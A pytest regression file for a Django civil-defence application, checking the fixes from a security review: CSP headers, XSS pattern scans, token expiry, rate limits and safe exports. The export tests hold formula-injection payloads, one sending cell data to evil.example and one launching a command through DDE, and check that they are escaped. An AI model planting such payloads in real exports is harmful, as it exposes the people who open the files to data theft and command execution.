"""Regression tests for the findings of the security review (issue 12), one story each; the command-side
findings are in alarms/tests/test_command_security.py, sign-in in test_accounts.py, brokers in
alarms/tests/test_broker_security.py, script injection in a real browser in tests/browser/test_xss.py."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from django.utils import timezone
from openpyxl import load_workbook

from renfang.config import Rate, demo_secrets
from renfang.core.models import ApiToken, Job, ObjectChange, Organisation
from renfang.core.tests.fixtures import make_uscc, token_client

ROOT = Path(__file__).resolve().parents[3]


# --- no script from data, and a policy that would stop one --------------------------------------------------


@pytest.mark.parametrize("path", ["/accounts/login/", "/find/", "/alarms/signals/", "/alarms/alerts/"])
def test_every_page_carries_a_policy_without_inline_scripts(db: Any, path: str) -> None:
    response = Client().get(path)
    policy = response["Content-Security-Policy"]
    scripts = re.search(r"script-src ([^;]*)", policy).group(1)  # type: ignore[union-attr]
    assert scripts.split() == ["'self'"]
    assert "style-src 'self'" in policy and "object-src 'none'" in policy and "frame-ancestors 'none'" in policy


def test_staff_pages_carry_it_too(clients: Any) -> None:
    for path in ("/", "/map/", "/city/population-blocks/", "/changes/"):
        assert "script-src 'self';" in clients["admin"].get(path)["Content-Security-Policy"]


def test_no_template_has_an_inline_script_handler_or_style() -> None:
    """What the policy would refuse must not be in the templates at all (it would break the page)."""
    offenders = []
    for template in ROOT.glob("renfang/**/templates/**/*.html"):
        text = template.read_text(encoding="utf-8")
        for pattern in (r"<script(?![^>]*\bsrc=)(?![^>]*type=\"application/json\")[^>]*>", r"\son[a-z]+=\"",
                        r"\sstyle=\"", r"<style", r"javascript:", r"\|safe\b", r"autoescape off"):  # fmt: skip
            if re.search(pattern, text):
                offenders.append(f"{template.relative_to(ROOT)}: {pattern}")
    assert not offenders


def test_no_script_inserts_data_as_html() -> None:
    """Leaflet treats a string tooltip or popup as HTML: every one gets a text node (renfang.tip)."""
    offenders = []
    for script in (ROOT / "renfang" / "static" / "renfang").glob("*.js"):
        text = script.read_text(encoding="utf-8")
        for pattern in (r"innerHTML", r"outerHTML", r"insertAdjacentHTML", r"document\.write",
                        r"bind(Tooltip|Popup)\((?!renfang\.|tip\(|box\b)"):  # fmt: skip
            if re.search(pattern, text):
                offenders.append(f"{script.name}: {pattern}")
    assert not offenders


# --- uploads are served only through their record, in the demo as in production ------------------------------


def test_media_files_are_not_served_from_media(clients: Any, city: Any) -> None:
    from renfang.works.tests.factories import make_work

    work = make_work(city.street_a)
    clients["district_a"].post("/work-files/add/", {
        "work": work.code, "kind": "document", "title": "图纸",
        "file": SimpleUploadedFile("plan.pdf", b"%PDF-1.4 secret plan", content_type="application/pdf"),
    })  # fmt: skip
    stored = work.attachments.get().file.name
    assert Client().get(f"/media/{stored}").status_code == 404
    assert clients["district_b"].get(f"/media/{stored}").status_code == 404
    # through the record: its own district only (and the API links there, not to /media/)
    url = f"/work-files/{work.attachments.get().pk}/file/file/"
    assert clients["district_b"].get(url).status_code == 404
    api = clients["district_a"].get(f"/api/v1/work-files/{work.attachments.get().pk}/").json()
    assert api["file"].endswith(url) and "/media/" not in api["file"]


# --- demo secrets are the installation's own ------------------------------------------------------------------


def test_a_demo_makes_its_own_random_secrets_and_keeps_them_private(tmp_path: Path) -> None:
    first = demo_secrets(tmp_path / "one")
    second = demo_secrets(tmp_path / "two")
    assert demo_secrets(tmp_path / "one") == first  # kept across restarts
    for name in ("secret_key", "terminal_master_key", "mqtt_service_password", "mqtt_simulator_password"):
        assert first[name] != second[name]
    assert len(bytes.fromhex(first["terminal_master_key"])) == 32
    assert stat.S_IMODE((tmp_path / "one" / "secrets.json").stat().st_mode) == 0o600


def test_the_running_settings_use_no_constant_secret() -> None:
    import hashlib

    assert "insecure" not in settings.SECRET_KEY
    # the old derivation from the secret key's constant is gone
    old = hashlib.sha256(b"terminals:insecure-development-key-only-used-with-RENFANG_DEBUG").hexdigest()
    assert old != settings.TERMINAL_MASTER_KEY


# --- production settings ---------------------------------------------------------------------------------------


def test_check_deploy_is_clean_with_production_settings(tmp_path: Path) -> None:
    env = {
        # none of the test run's own variables (the browser tests allow async-unsafe ORM calls, for one)
        **{k: v for k, v in os.environ.items() if not k.startswith(("RENFANG_", "DJANGO_", "DATABASE_URL"))},
        "RENFANG_DEBUG": "false",
        "RENFANG_SECRET_KEY": "k" * 20 + "-a-long-random-production-secret-value-1234567890",
        "RENFANG_ALLOWED_HOSTS": "renfang.example.gov.cn",
        "RENFANG_DATA_DIR": str(tmp_path),
        "DJANGO_SETTINGS_MODULE": "renfang.settings",
    }
    result = subprocess.run([sys.executable, str(ROOT / "manage.py"), "check", "--deploy", "--fail-level", "WARNING"],
                            env=env, capture_output=True, text=True, timeout=120)  # fmt: skip
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_the_schema_is_for_signed_in_users_only(clients: Any) -> None:
    assert Client().get("/api/schema/").status_code in (401, 403)
    assert Client().get("/api/docs/").status_code == 302
    assert clients["district_a"].get("/api/schema/?format=json").status_code == 200


# --- API tokens expire, carry a scope, are stored hashed --------------------------------------------------------


def test_a_token_is_stored_only_as_its_digest_and_expires(users: Any) -> None:
    from renfang.core.services import issue_token

    token, key = issue_token(user=users["district_a"], name="nightly", scope="read", days=30)
    assert key not in json.dumps(list(ApiToken.objects.values()), default=str)
    client = token_client(users["district_a"], scope="read")
    assert client.get("/api/v1/organisations/").status_code == 200
    ApiToken.objects.update(expires=timezone.now() - dt.timedelta(minutes=1))
    response = client.get("/api/v1/organisations/")
    assert response.status_code == 401
    assert "expired" in response.json()["detail"] or "过期" in response.json()["detail"]


def test_a_token_lives_at_most_the_configured_days(users: Any) -> None:
    from renfang.core.services import issue_token

    token, _key = issue_token(user=users["district_a"], name="x", scope="read", days=10_000)
    assert token.expires - timezone.now() <= dt.timedelta(days=settings.API_TOKEN_MAX_DAYS, seconds=5)


def test_a_read_only_token_cannot_write(users: Any, city: Any) -> None:
    client = token_client(users["district_a"], scope="read")
    response = client.post("/api/v1/organisations/", {"name": "只读公司", "uscc": make_uscc(77), "region": "379902"},
                           format="json")  # fmt: skip
    assert response.status_code == 403
    assert not Organisation.objects.filter(name="只读公司").exists()
    writer = token_client(users["district_a"], scope="write")
    response = writer.post("/api/v1/organisations/", {"name": "可写公司", "uscc": make_uscc(78), "region": "379902"},
                           format="json")  # fmt: skip
    assert response.status_code == 201, response.content


def test_a_revoked_token_is_refused(users: Any, clients: Any) -> None:
    client = token_client(users["district_a"])
    token = ApiToken.objects.get()
    clients["district_a"].post("/account/token/", {"revoke": token.pk})
    assert client.get("/api/v1/organisations/").status_code == 401


def test_tokens_are_issued_on_the_account_page_and_shown_once(clients: Any) -> None:
    response = clients["district_a"].post(
        "/account/token/", {"name": "市平台", "scope": "read", "days": 30}, follow=True
    )
    page = response.content.decode()
    token = ApiToken.objects.get()
    assert token.prefix in page and token.name in page
    assert token.prefix not in clients["district_a"].get("/account/").content.decode().split('id="tokens"')[0]


# --- rate limits ---------------------------------------------------------------------------------------------


@override_settings(RATE_API_ANON=Rate(3, 60))
def test_the_api_answers_429_in_chinese_when_an_anonymous_caller_floods_it(db: Any) -> None:
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    statuses = [client.get("/api/v1/organisations/").status_code for _ in range(5)]
    assert statuses[:3] == [401, 401, 401] and statuses[-1] == 429
    # guessing tokens counts the same way
    guesser = Client(HTTP_AUTHORIZATION="Token guess", REMOTE_ADDR="203.0.113.9")
    assert [guesser.get("/api/v1/organisations/").status_code for _ in range(4)][-1] == 429
    response = client.get("/api/v1/organisations/")
    assert "请求过于频繁" in response.json()["error"]


@override_settings(RATE_API_USER=Rate(3, 60))
def test_the_api_limits_a_signed_in_user_too(users: Any) -> None:
    client = token_client(users["district_a"])
    statuses = [client.get("/api/v1/organisations/").status_code for _ in range(5)]
    assert statuses[:3] == [200, 200, 200] and statuses[-1] == 429


@override_settings(RATE_PUBLIC=Rate(3, 60))
def test_the_public_finder_answers_429_in_chinese(db: Any) -> None:
    client = Client(HTTP_ACCEPT_LANGUAGE="zh-hans")
    for _ in range(3):
        client.get("/api/public/places/", {"q": "花园"})
    response = client.get("/api/public/places/", {"q": "花园"})
    assert response.status_code == 429
    assert "请求过于频繁" in response.json()["error"]
    assert int(response["Retry-After"]) > 0


# --- errors that do not confirm other districts' identifiers ------------------------------------------------


def test_a_taken_code_of_another_district_is_not_confirmed(clients: Any, users: Any, city: Any) -> None:
    from renfang.works.tests.factories import make_work

    make_work(city.street_a, code="W-A1", name="东川工程")
    form = {"code": "W-A1", "name": "临河工程", "work_type": "personnel_2", "construction_form": "attached",
            "protection_category": "A", "nuclear_class": "6", "conventional_class": "6", "building_area": "100",
            "sheltering_area": "60", "region": "379903001", "status": "in_use", "lon": "116.1",
            "lat": "36.5"}  # fmt: skip
    page = clients["district_b"].post("/works/add/", form).content.decode()
    assert "东川工程" not in page and "已存在" not in page and "already exists" not in page
    assert "不能使用" in page or "cannot be used" in page
    # the same conflict seen by the owner's district names the row
    page = clients["district_a"].post("/works/add/", {**form, "region": "379902001", "lon": "116.0"}).content.decode()
    assert "东川工程" in page
    # and the API says no more
    response = token_client(users["district_b"]).post("/api/v1/works/", form, format="json")
    assert response.status_code == 400
    assert "东川工程" not in response.content.decode() and "already exists" not in response.content.decode()


def test_a_taken_terminal_address_of_another_district_is_not_confirmed(clients: Any, city: Any) -> None:
    from renfang.sirens.tests.factories import make_siren

    make_siren(city.street_a, code="SA", name="东川警报点", controller_address="05-0001")
    form = {"code": "SB", "name": "临河警报点", "kind": "electronic", "rated_db": "120", "region": "379903001",
            "lon": "116.1", "lat": "36.5", "controller_address": "05-0001", "state": "in_use"}  # fmt: skip
    page = clients["district_b"].post("/sirens/sirens/add/", form).content.decode()
    assert "东川警报点" not in page and "siren_controller_address_unique" not in page
    assert "不能使用" in page or "cannot be used" in page


# --- every record is change-logged -------------------------------------------------------------------------------


def test_evacuation_records_write_change_log_entries(clients: Any, city: Any) -> None:
    response = clients["admin"].post("/evacuation/evacuation-bases/add/", {
        "code": "B1", "name": "东川疏散基地", "region": "379902001", "lon": "116.0", "lat": "36.5", "capacity": "500",
    })  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:2000]
    assert ObjectChange.objects.filter(content_type__app_label="evacuation", action="create").exists()


def test_every_model_is_change_logged_or_listed_as_its_own_log() -> None:
    from django.apps import apps

    from renfang.core.changelog import NOT_LOGGED, _is_logged

    ours = [m for m in apps.get_models() if m.__module__.startswith("renfang.")]
    unlogged = [m._meta.label_lower for m in ours if not _is_logged(m) and m._meta.label_lower not in NOT_LOGGED]
    assert not unlogged


# --- exports never carry a live formula ----------------------------------------------------------------------


PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def test_formula_text_is_escaped_in_csv_and_kept_as_text_in_xlsx(clients: Any, city: Any) -> None:
    Organisation.objects.create(name=PAYLOAD, uscc=make_uscc(91), region=city.a)
    Organisation.objects.create(name="-2+3", uscc=make_uscc(92), region=city.a, address="@SUM(1)")
    csv_text = b"".join(clients["district_a"].get("/organisations/export/?export=csv").streaming_content).decode()
    assert f"'{PAYLOAD}".replace('"', '""') in csv_text
    assert "'-2+3" in csv_text and "'@SUM(1)" in csv_text
    book = load_workbook(io.BytesIO(clients["district_a"].get("/organisations/export/?export=xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row if c.value == PAYLOAD]
    assert cells and all(c.data_type == "s" for c in cells)


def test_the_public_open_data_is_escaped_too(db: Any, city: Any) -> None:
    from renfang.works.tests.factories import make_shelter

    make_shelter(city.street_a, code="S-EVIL", name="=cmd|'/c calc'!A1")
    body = b"".join(Client().get("/open-data/shelters.csv").streaming_content).decode()
    assert "'=cmd|'/c calc'!A1" in body


def test_an_escaped_export_imports_back_unchanged(clients: Any, city: Any) -> None:
    org = Organisation.objects.create(name="-2+3 公司", uscc=make_uscc(93), region=city.a)
    csv_bytes = b"".join(clients["district_a"].get("/organisations/export/?export=csv").streaming_content)
    response = clients["district_a"].post("/organisations/import/", {
        "file": SimpleUploadedFile("orgs.csv", csv_bytes), "coordinate_system": "wgs84"})  # fmt: skip
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert job.status == "succeeded", job.result
    org.refresh_from_db()
    assert org.name == "-2+3 公司"


# --- sirens: export, import and API with their groups -------------------------------------------------------


def test_sirens_export_and_import_with_their_groups(clients: Any, city: Any) -> None:
    from renfang.sirens.models import Siren, SirenGroup
    from renfang.sirens.tests.factories import make_siren

    g1 = SirenGroup.objects.create(code="G1", name="一组", region=city.a)
    SirenGroup.objects.create(code="G2", name="二组", region=city.a)
    siren = make_siren(city.street_a, controller_address="05-0001")
    siren.groups.add(g1)
    staff = clients["district_a"]
    xlsx = staff.get("/sirens/sirens/export/?export=xlsx")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.content))
    header = [c.value for c in next(book.active.iter_rows())]
    row = [c.value for c in list(book.active.iter_rows())[1]]
    assert row[header.index("分组" if "分组" in header else "groups")] == "G1"
    # the exported file, changed to two groups, imports back by id
    csv_text = b"".join(staff.get("/sirens/sirens/export/?export=csv").streaming_content).decode("utf-8-sig")
    csv_text = csv_text.replace(",G1,", ",G1;G2,")
    response = staff.post("/sirens/sirens/import/", {
        "file": SimpleUploadedFile("sirens.csv", csv_text.encode()), "coordinate_system": "wgs84"})  # fmt: skip
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert job.status == "succeeded", job.result
    assert job.result["updated"] == 1
    assert sorted(Siren.objects.get(pk=siren.pk).groups.values_list("code", flat=True)) == ["G1", "G2"]


def test_siren_groups_are_set_through_the_api(users: Any, city: Any) -> None:
    from renfang.sirens.models import Siren, SirenGroup

    SirenGroup.objects.create(code="G1", name="一组", region=city.a)
    SirenGroup.objects.create(code="GB", name="临河组", region=city.b)
    client = token_client(users["district_a"])
    data = {"code": "S9", "name": "新警报点", "kind": "electronic", "rated_db": 120, "region": "379902001",
            "lon": 116.0, "lat": 36.5, "state": "in_use", "groups": ["G1"]}  # fmt: skip
    response = client.post("/api/v1/sirens/", data, format="json")
    assert response.status_code == 201, response.content
    assert list(Siren.objects.get(code="S9").groups.values_list("code", flat=True)) == ["G1"]
    # another district's group is no choice at all
    response = client.patch(f"/api/v1/sirens/{response.json()['id']}/", {"groups": ["GB"]}, format="json")
    assert response.status_code == 400


# --- bad data cannot break the public ------------------------------------------------------------------------


def test_a_bare_road_network_row_cannot_be_made_or_activated(users: Any, city: Any) -> None:
    from renfang.citymodel.models import RoadNetwork
    from renfang.works.tests.factories import make_river_city

    make_river_city(city)
    client = token_client(users["city_staff"])
    response = client.post("/api/v1/road-networks/", {"name": "空", "source": "x", "is_active": True}, format="json")
    assert response.status_code == 405
    empty = RoadNetwork.objects.create(name="空网", source="x")
    response = client.patch(f"/api/v1/road-networks/{empty.pk}/", {"is_active": True}, format="json")
    assert response.status_code == 400
    assert RoadNetwork.objects.get(is_active=True).name == "river"
    assert Client().get("/api/public/nearest/", {"lon": 116.0, "lat": 36.5}).status_code == 200


def test_a_damaged_active_network_makes_the_finder_say_so_not_fail(db: Any, city: Any) -> None:
    from renfang.citymodel.models import RoadNetwork
    from renfang.works.public import reset_finder
    from renfang.works.tests.factories import make_river_city

    make_river_city(city)
    network = RoadNetwork.objects.get(is_active=True)
    Path(network.arrays.path).write_bytes(b"not a numpy file")
    RoadNetwork.objects.filter(pk=network.pk).update(digest="changed")  # a new digest: caches reload
    reset_finder()
    response = Client().get("/api/public/nearest/", {"lon": 116.0, "lat": 36.5})
    assert response.status_code == 503
    assert response.json()["error"]
    assert Client().get("/api/public/roads/", {"bbox": "115.99,36.49,116.02,36.51"}).status_code == 503
    reset_finder()


@pytest.mark.parametrize(
    ("lon", "lat", "fragment"),
    [("0", "0", "0, 0"), ("250", "95", "250"), ("116.4074", "39.9042", "outside")],  # Beijing is not 东川
)
def test_a_location_outside_the_jurisdiction_is_refused_with_its_row(
    clients: Any, city: Any, lon: str, lat: str, fragment: str
) -> None:
    from renfang.core.geo import reset_jurisdiction

    reset_jurisdiction()
    header = "code,name,region,residents,households,day_population,night_population,lon,lat\n"
    body = header + "B1,好小区,379902001001,10,5,5,10,116.0,36.5\n" + f"B2,远方,379902001001,10,5,5,10,{lon},{lat}\n"
    response = clients["district_a"].post("/city/population-blocks/import/", {
        "file": SimpleUploadedFile("b.csv", body.encode()), "coordinate_system": "wgs84"})  # fmt: skip
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert job.status == "failed"
    errors = job.result["errors"]
    assert errors and all(e["row"] == 3 for e in errors)
    assert any(fragment in e["message"] or "以外" in e["message"] for e in errors)
    from renfang.citymodel.models import PopulationBlock

    assert not PopulationBlock.objects.exists()


def test_a_location_outside_is_accepted_when_the_reason_is_given(clients: Any, city: Any) -> None:
    from renfang.core.geo import reset_jurisdiction
    from renfang.evacuation.models import ReceptionArea

    reset_jurisdiction()
    form = {"code": "R1", "name": "邻县接收点", "region": "379902001", "lon": "116.6", "lat": "36.5", "capacity": "800"}
    assert clients["admin"].post("/evacuation/reception-areas/add/", form).status_code == 400
    response = clients["admin"].post("/evacuation/reception-areas/add/", {**form, "location_note": "对接的邻县接收区"})
    assert response.status_code == 302
    assert ReceptionArea.objects.get(code="R1").location_note == "对接的邻县接收区"


def test_an_implausible_area_per_person_is_refused(clients: Any) -> None:
    from renfang.works.models import CapacityStandard

    standard = CapacityStandard.objects.first()
    assert standard is not None
    response = clients["admin"].post(f"/capacity-standards/{standard.pk}/edit/", {
        "work_type": standard.work_type, "m2_per_person": "0.000001", "basis": "x"})  # fmt: skip
    assert response.status_code == 400
    standard.refresh_from_db()
    assert standard.m2_per_person >= settings.M2_PER_PERSON_MIN


# --- imports: a row limit, short transactions, all or nothing --------------------------------------------------


@override_settings(IMPORT_MAX_ROWS=3)
def test_an_import_over_the_row_limit_is_refused_and_writes_nothing(clients: Any, city: Any) -> None:
    header = "code,name,region,residents,households,day_population,night_population,lon,lat\n"
    body = header + "".join(f"B{n},小区{n},379902001001,10,5,5,10,116.0,36.5\n" for n in range(5))
    response = clients["district_a"].post("/city/population-blocks/import/", {
        "file": SimpleUploadedFile("b.csv", body.encode()), "coordinate_system": "wgs84"})  # fmt: skip
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").split("/")[-1]))
    assert job.status == "failed"
    assert "3" in job.result["errors"][0]["message"]
    from renfang.citymodel.models import PopulationBlock

    assert not PopulationBlock.objects.exists()


@pytest.mark.django_db(transaction=True)
@override_settings(IMPORT_PROGRESS_ROWS=2)
def test_an_import_commits_row_by_row_and_undoes_everything_when_a_later_row_fails(city: Any, users: Any) -> None:
    from renfang.citymodel.models import PopulationBlock
    from renfang.core.importer import run_import
    from renfang.core.registry import get_registry

    header = "code,name,region,residents,households,day_population,night_population,lon,lat\n"
    rows = "".join(f"B{n},小区{n},379902001001,10,5,5,10,116.0,36.5\n" for n in range(6))
    path = Path(settings.MEDIA_ROOT) / "batches.csv"
    path.write_text(header + rows + "B9,坏行,379902001001,10,50,5,10,116.0,36.5\n", encoding="utf-8")
    seen: list[int] = []

    def progress(done: int, total: Any, message: str) -> None:
        # what another connection sees while the import runs: rows are committed as written, nothing is held
        seen.append(PopulationBlock.objects.count())

    result = run_import(get_registry("citymodel.populationblock"), users["district_a"], path, "batches.csv",
                        progress=progress)  # fmt: skip
    assert seen[:3] == [2, 4, 6]
    assert result.error_count == 1 and result.errors[0].row == 8
    assert result.created == 0
    assert not PopulationBlock.objects.exists()  # undone: nothing of the file stays
